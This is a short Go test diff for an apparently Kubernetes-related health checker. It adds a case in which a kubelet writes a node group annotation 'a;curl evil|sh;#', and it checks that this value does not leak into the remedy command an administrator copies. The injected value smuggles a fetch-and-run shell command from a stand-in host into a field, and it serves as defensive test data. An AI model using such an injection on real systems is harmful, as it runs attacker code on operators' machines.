@@ -105,6 +105,17 @@ func TestAgentsThatVerifyNothing(t *testing.T) {
 			t.Errorf("step %+v", x)
 		}
 	})
+	// Before there were policies a kubelet could write the annotation of its group and of its
+	// components. Neither gets into a command that the administrator copies, or hides the rest.
+	t.Run("a Node that claims another group", func(t *testing.T) {
+		s := newStage(t)
+		n := &s.inside.running.Nodes[1]
+		n.Group = "a;curl evil|sh;#"
+		s.cluster.PutNode(*n)
+		if f := health(t, s); f == nil || strings.Contains(f.Detail+f.Remedy, "evil") || !strings.Contains(f.Remedy, "kubectl patch scalinggroup workers ") {
+			t.Errorf("status: %+v", f)
+		}
+	})
 	t.Run("machines of a newer image", func(t *testing.T) {
 		s := newStage(t)
 		for i := range s.cloud.machines {
